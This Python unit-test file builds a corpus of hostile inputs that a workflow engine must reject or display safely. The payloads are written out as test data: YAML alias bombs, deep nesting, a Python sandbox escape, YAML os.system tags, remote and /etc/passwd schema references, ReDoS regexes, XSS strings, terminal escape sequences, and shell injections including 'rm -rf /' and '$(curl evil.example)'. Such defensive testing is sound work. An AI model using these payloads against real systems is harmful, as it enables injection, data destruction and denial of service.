"""A corpus of hostile definitions, documents, expressions and inputs (tests/unit/test_hostile.py).

Each case is something a user (or an attacker with access to the API) could send: it must be
refused with a diagnostic, within a time and memory bound, without a crash or a hang.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Kind = str  # "document" (bytes), "definition" (dict), "expression" (str + scope), "input"


@dataclass(frozen=True)
class Case:
    name: str
    kind: Kind
    build: Callable[[], Any]


def base(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "workflow_id": "hostile",
        "steps": [
            {"step_id": "a", "action": "std.echo"},
            {"step_id": "b", "action": "std.echo", "dependencies": ["a"]},
        ],
    }
    doc.update(fields)
    return doc


def step(**fields: Any) -> dict[str, Any]:
    """`base()` with the second step's fields replaced."""
    doc = base()
    doc["steps"][1] = {"step_id": "b", "action": "std.echo", "dependencies": ["a"], **fields}
    return doc


def nested_parallel(depth: int) -> dict[str, Any]:
    inner: dict[str, Any] = {"step_id": f"n{depth}", "action": "std.echo"}
    for level in range(depth - 1, 0, -1):
        inner = {"step_id": f"n{level}", "step_type": "parallel", "parallel_steps": [inner]}
    return {"workflow_id": "deep", "steps": [inner]}


def chain_cycle(n: int) -> dict[str, Any]:
    return {
        "workflow_id": "cycle",
        "steps": [
            {"step_id": f"s{i}", "action": "std.echo", "dependencies": [f"s{(i + 1) % n}"]}
            for i in range(n)
        ],
    }


def many_steps(n: int) -> dict[str, Any]:
    return {
        "workflow_id": "many",
        "steps": [{"step_id": f"s{i}", "action": "std.echo"} for i in range(n)],
    }


def deep_json(depth: int) -> bytes:
    return (
        b'{"workflow_id": "x", "global_variables": '
        + b'{"a": ' * depth
        + b"1"
        + b"}" * depth
        + b"}"
    )


def deep_dict(depth: int) -> dict[str, Any]:
    value: Any = 1
    for _ in range(depth):
        value = {"a": value}
    return value  # type: ignore[no-any-return]


def alias_bomb(levels: int = 9) -> bytes:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        refs = ",".join(f"*a{i - 1}" for _ in range(9))
        lines.append(f"a{i}: &a{i} [{refs}]")
    lines.append(f"workflow_id: bomb\nsteps: *a{levels - 1}")
    return "\n".join(lines).encode()


def schema_step(schema: Any) -> dict[str, Any]:
    return step(input_validation=schema)


LIT = "[" + ",".join(str(i) for i in range(500)) + "]"
DEEP = "input.a.all(w, input.a.all(x, input.a.all(y, input.a.all(z, true))))"


def expression_cases() -> list[Case]:
    big = list(range(20_000))
    texts = {
        "syntax error": ("input.a +", {}),
        "python escape": ("__import__('os').system('true')", {}),
        "python dunder": ("input.__class__.__mro__", {}),
        "unknown function": ("exec('1')", {}),
        "unknown name": ("os.environ", {}),
        "too long": ("1 + " * 2000 + "1", {}),
        "parenthesis bomb": ("(" * 3000 + "1" + ")" * 3000, {}),
        "deep list literal": ("[" * 3000 + "]" * 3000, {}),
        "comprehension nested 4 deep": (
            "input.a.all(w, input.a.all(x, input.a.all(y, input.a.all(z, true))))",
            {"input": {"a": [1]}},
        ),
        "quadratic map over a large list": (
            "input.a.map(x, x * 2).size() > 0",
            {"input": {"a": big}},
        ),
        "nested map over a medium list": (
            "input.a.map(x, input.a.map(y, x + y)).size()",
            {"input": {"a": big[:1000]}},
        ),
        "division by zero": ("1 / 0", {}),
        "int overflow": ("9223372036854775807 + 1", {}),
        "missing key": ("input.nope.deeper", {"input": {}}),
        "type confusion": ("'a' + 1", {}),
        "bad regex": ("'a'.matches('(')", {}),
        "string to int garbage": ("int('12x')", {}),
        "huge string repeat via join": (
            "input.a.map(x, 'aaaaaaaaaa').join('')",
            {"input": {"a": big}},
        ),
        "timestamp out of range": ("timestamp('99999-01-01T00:00:00Z')", {}),
        "unicode trickery": ("inpu\u0442.a", {"input": {"a": 1}}),
        # issue 18, item 1: what passed the old cost check (tests/unit/test_cel_cost.py)
        "map crossed with the input": ("input.a.map(x, input.a)", {"input": {"a": big[:800]}}),
        "literal lists crossed": (f"{LIT}.map(x, {LIT}.map(y, x + y))", {}),
        "string map over a large string": (
            "input.a.map(x, input.s + input.s)",
            {"input": {"a": big[:1000], "s": "x" * 500_000}},
        ),
        "raw string hides nesting": ("r'\\' + string(" + DEEP + ")", {"input": {"a": [1] * 9}}),
        "triple quotes hide nesting": ('"""a"b""" + string(' + DEEP + ")", {"input": {"a": [1]}}),
        "comment hides nesting": ("// it's\n string(" + DEEP + ")", {"input": {"a": [1]}}),
        "nesting at the old limit": (
            "input.a.all(x, input.a.all(y, input.a.map(z, z)))",
            {"input": {"a": big[:158]}},
        ),
        "a value over the size limit": ("size(input.blob)", {"input": {"blob": "x" * 2_000_000}}),
        "an unknown method": ("input.s.lowerAscii()", {"input": {"s": "A"}}),
    }
    return [Case(f"expression: {name}", "expression", lambda v=v: v) for name, v in texts.items()]


def wrong_types() -> list[Case]:
    """One case per definition field given a value of the wrong type or range."""
    top = {
        "workflow_id": [None, 12, "", "UPPER", "has space", "x" * 300, "../etc", "\u0430bc"],
        "timeout": [-1, 0, "soon", 1e308, float("nan")],
        "max_parallel_steps": [0, -5, 10**9, "many", 1.5],
        "steps": [None, "a", {"step_id": "a"}, [], [1, 2]],
        "global_variables": ["x", [1], 5],
        "retry_policy": [{"max_attempts": 0}, {"backoff_coefficient": 0.1}, {"nope": 1}, "x"],
        "sla_targets": [
            {"max_duration_seconds": -1},
            {"step_max_seconds": {"zz": 1}},
            7,
            {"max_duration_seconds": float("nan")},
            {"max_duration_seconds": float("inf")},
            {"step_max_seconds": {"a": -1}},
            {"step_max_seconds": {"a": float("nan")}},
            {"step_max_seconds": {"a": 1e300}},
        ],
        "tags": ["t", {"a": 1}],
        "unknown_field": ["x"],
    }
    per_step = {
        "step_id": [None, "", "Bad Id", "a" * 200, "x\x00y", "a"],  # "a": a duplicate
        "step_type": ["teleport", 5, None],
        "action": [5, ["std.echo"], "", "no.such.action"],
        "timeout": [-3, "later", 0, float("inf"), float("nan")],
        "dependencies": ["a", [5], ["zz"], ["b"]],  # "b": itself
        "input_mapping": ["x", {"p": 5}, {"p": "input.a +"}],
        "output_mapping": [{"v": "result +"}, ["x"]],
        "conditions": [[{"when": "1 +"}], "x", [{"nope": "true"}]],
        "retry_policy": [
            {"max_attempts": -1},
            {"non_retryable_errors": "x"},
            {"initial_interval": float("inf")},
            {"maximum_interval": float("nan")},
            {"backoff_coefficient": float("inf")},
        ],
        "loop_max_iterations": [0, -1, 10**12],
        "approval": [{"required_approvals": 0}, {"on_timeout": "explode"}, "x"],
        "wait": [{"seconds": -5}, {"until": "1 +"}, {}],
        "error_handlers": ["std.log", [5]],
        "rollback_actions": [["no.such.action"]],
        "parallel_steps": ["x", [{"step_id": "a", "action": "std.echo"}]],
    }
    cases = []
    for field_name, values in top.items():
        for i, value in enumerate(values):
            cases.append(
                Case(
                    f"top {field_name} #{i}",
                    "definition",
                    lambda f=field_name, v=value: base(**{f: v}),
                )
            )
    for field_name, values in per_step.items():
        for i, value in enumerate(values):
            cases.append(
                Case(
                    f"step {field_name} #{i}",
                    "definition",
                    lambda f=field_name, v=value: step(**{f: v}),
                )
            )
    return cases + number_cases()


def number_cases() -> list[Case]:
    """Numbers that would wedge a run (a timer of inf seconds fails the workflow task on every
    retry), on the step type that uses them."""
    nan, inf = float("nan"), float("inf")
    approval = [
        {"reminder_every": 1e-6},
        {"reminder_every": nan},
        {"escalation_timeout": inf},
        {"escalation_timeout": -1},
        {"required_approvals": 10**30},
    ]
    waits = [{"seconds": inf}, {"seconds": 1e300}, {"seconds": nan}, {"seconds": -inf}]
    cases = [
        Case(
            f"number: approval {spec}",
            "definition",
            lambda s=spec: step(step_type="approval", action=None, approval=s),
        )
        for spec in approval
    ]
    return cases + [
        Case(
            f"number: wait {spec}",
            "definition",
            lambda s=spec: step(step_type="wait", action=None, wait=s),
        )
        for spec in waits
    ]


def corpus() -> list[Case]:
    ten_mb = "x" * 10_000_000
    cases = [
        # documents (bytes through the loader)
        Case("document: empty", "document", lambda: b""),
        Case("document: only whitespace", "document", lambda: b"   \n\n"),
        Case("document: non-UTF-8", "document", lambda: b"workflow_id: \xff\xfe\xfa\nsteps: []"),
        Case("document: UTF-16 with BOM", "document", lambda: "workflow_id: a".encode("utf-16")),
        Case("document: NUL bytes", "document", lambda: b"workflow_id: a\x00\nsteps: []"),
        Case("document: YAML alias bomb", "document", alias_bomb),
        Case("document: 10 MB string", "document", lambda: f"workflow_id: {ten_mb}".encode()),
        Case("document: JSON nested 100k deep", "document", lambda: deep_json(100_000)),
        Case(
            "document: YAML nested 50k deep",
            "document",
            lambda: b"a: " + b"[" * 50_000 + b"]" * 50_000,
        ),
        Case(
            "document: python object tag",
            "document",
            lambda: b"workflow_id: !!python/object/apply:os.system ['true']\nsteps: []",
        ),
        Case("document: python name tag", "document", lambda: b"x: !!python/name:os.system\n"),
        Case("document: a list", "document", lambda: b"- a\n- b\n"),
        Case("document: a scalar", "document", lambda: b"42"),
        Case("document: broken YAML", "document", lambda: b"workflow_id: [\n  a: b: c\n"),
        Case("document: tabs", "document", lambda: b"workflow_id: a\n\tsteps: []\n"),
        Case(
            "document: JSON with NaN",
            "document",
            lambda: b'{"workflow_id": "a", "timeout": NaN, "steps": []}',
        ),
        Case(
            "document: JSON huge number",
            "document",
            lambda: b'{"workflow_id": "a", "timeout": 1e999999, "steps": []}',
        ),
        Case(
            "document: JSON duplicate garbage",
            "document",
            lambda: b'{"workflow_id": "a",, "steps": []}',
        ),
        Case(
            "document: two YAML documents",
            "document",
            lambda: b"workflow_id: a\n---\nworkflow_id: b\n",
        ),
        Case(
            "document: merge-key bomb",
            "document",
            lambda: (
                b"a: &a {x: 1}\n" + b"".join(f"b{i}: {{<<: *a}}\n".encode() for i in range(200))
            ),
        ),
        # definitions (dicts through the validator)
        Case("definition: self dependency", "definition", lambda: step(dependencies=["b"])),
        Case("definition: 2-cycle", "definition", lambda: chain_cycle(2)),
        Case("definition: 1000-cycle", "definition", lambda: chain_cycle(1000)),
        Case("definition: 100k steps", "definition", lambda: many_steps(100_000)),
        Case("definition: 20,001 steps", "definition", lambda: many_steps(20_001)),
        Case("definition: parallel nested 100 deep", "definition", lambda: nested_parallel(100)),
        Case("definition: parallel nested 17 deep", "definition", lambda: nested_parallel(17)),
        Case("definition: 10 MB name", "definition", lambda: base(name=ten_mb)),
        Case(
            "definition: 10 MB variable", "definition", lambda: base(global_variables={"v": ten_mb})
        ),
        Case(
            "definition: variables nested 10k deep",
            "definition",
            lambda: base(global_variables=deep_dict(10_000)),
        ),
        Case(
            "definition: 1M dependencies",
            "definition",
            lambda: step(dependencies=["a"] * 1_000_000),
        ),
        Case("definition: no steps", "definition", lambda: base(steps=[])),
        Case("definition: not a mapping", "definition", lambda: ["workflow_id", "x"]),
        Case(
            "definition: duplicate nested id",
            "definition",
            lambda: base(
                steps=[
                    {
                        "step_id": "p",
                        "step_type": "parallel",
                        "parallel_steps": [{"step_id": "p", "action": "std.echo"}],
                    }
                ]
            ),
        ),
        Case(
            "definition: loop without condition or action",
            "definition",
            lambda: step(step_type="loop"),
        ),
        Case(
            "definition: conditional to unknown branch",
            "definition",
            lambda: step(
                step_type="conditional", conditions=[{"when": "true", "next_steps": ["ghost"]}]
            ),
        ),
        Case(
            "definition: escalate without escalate_to",
            "definition",
            lambda: step(step_type="approval", approval={"on_timeout": "escalate"}),
        ),
        Case(
            "definition: more approvals than approvers",
            "definition",
            lambda: step(
                step_type="approval", approval={"approvers": ["ann"], "required_approvals": 3}
            ),
        ),
        # JSON Schemas of input_validation
        Case("schema: not a schema", "definition", lambda: schema_step({"type": 12})),
        Case("schema: properties not a map", "definition", lambda: schema_step({"properties": 5})),
        Case(
            "schema: remote $ref",
            "definition",
            lambda: schema_step({"$ref": "http://attacker.example/x.json"}),
        ),
        Case(
            "schema: file $ref", "definition", lambda: schema_step({"$ref": "file:///etc/passwd"})
        ),
        Case("schema: refers to itself", "definition", lambda: schema_step({"$ref": "#"})),
        Case(
            "schema: mutual recursion",
            "definition",
            lambda: schema_step(
                {
                    "$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}},
                    "$ref": "#/$defs/a",
                }
            ),
        ),
        Case(
            "schema: catastrophic pattern",
            "definition",
            lambda: schema_step(
                {"type": "object", "properties": {"s": {"type": "string", "pattern": "^(a+)+$"}}}
            ),
        ),
        Case(
            "schema: catastrophic patternProperties",
            "definition",
            lambda: schema_step({"patternProperties": {"(x*)*y": {}}}),
        ),
        Case("schema: invalid regex", "definition", lambda: schema_step({"pattern": "(unclosed"})),
        Case(
            "schema: backreference (not RE2)",
            "definition",
            lambda: schema_step({"properties": {"s": {"pattern": r"^(a+)\1$"}}}),
        ),
        Case(
            "schema: lookahead (not RE2)",
            "definition",
            lambda: schema_step({"patternProperties": {r"^(?=a)\w+$": {}}}),
        ),
        Case(
            "schema: unevaluatedProperties beside patternProperties",
            "definition",
            lambda: schema_step({"patternProperties": {"^a": {}}, "unevaluatedProperties": False}),
        ),
        Case("schema: nested 5000 deep", "definition", lambda: schema_step(deep_schema(5000))),
        Case("schema: a list", "definition", lambda: schema_step([1, 2])),
    ]
    inputs = {
        "2 MB string": {"blob": "x" * 2_000_000},
        "100k-element list": {"rows": list(range(300_000))},
        "nested 1000 deep": deep_dict(1000),
        "a list": [1, 2, 3],
        "a string": "hello",
        "NaN": {"x": float("nan")},
        "not JSON": {"when": object()},
    }
    cases += [Case(f"input: {name}", "input", lambda v=v: v) for name, v in inputs.items()]
    return cases + wrong_types() + expression_cases()


def deep_schema(depth: int) -> dict[str, Any]:
    schema: dict[str, Any] = {"type": "string"}
    for _ in range(depth):
        schema = {"type": "object", "properties": {"a": schema}}
    return schema


# Text a person or a system writes that the CLI and the Web UI show (names, errors, comments,
# approvers): shown as written, never as markup, escapes or links (tests/unit/test_escaping.py).
TERMINAL_TEXTS: dict[str, str] = {
    "rich: a closing tag": "[/]",
    "rich: a style": "[bold red]loud[/bold red]",
    "rich: a link": "[link=https://evil.example]click[/link]",
    "rich: an emoji code": ":skull: :thumbs_up:",
    "ansi: colours": "\x1b[31mred\x1b[0m",
    "ansi: clear the screen": "\x1b[2J\x1b[H",
    "ansi: an OSC 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "ansi: a window title": "\x1b]0;pwned\x07",
    "ansi: 8-bit CSI": "\x9b31mred",
    "control: bell, backspace, NUL": "a\x07\x08\x00b",
    "control: carriage return": "ok\rFAKE",
    "unicode: bidi override": "abc\u202edcba",
    "markdown: a link": "[click](javascript:alert(1))",
    "markdown: an image": "![x](https://tracker.example/p.png)",
    "markdown: html": "<img src=x onerror=alert(1)>",
    "markdown: emphasis and a heading": "# big *bold* _it_ **x**",
    "markdown: a table pipe": "a | b",
    "markdown: a code span breaker": "`rm -rf /`",
    "shell: a quote and a command": "x'; rm -rf / #",
    "shell: command substitution": "$(curl evil.example)`id`",
    "text: a newline": "line one\nline two",
}
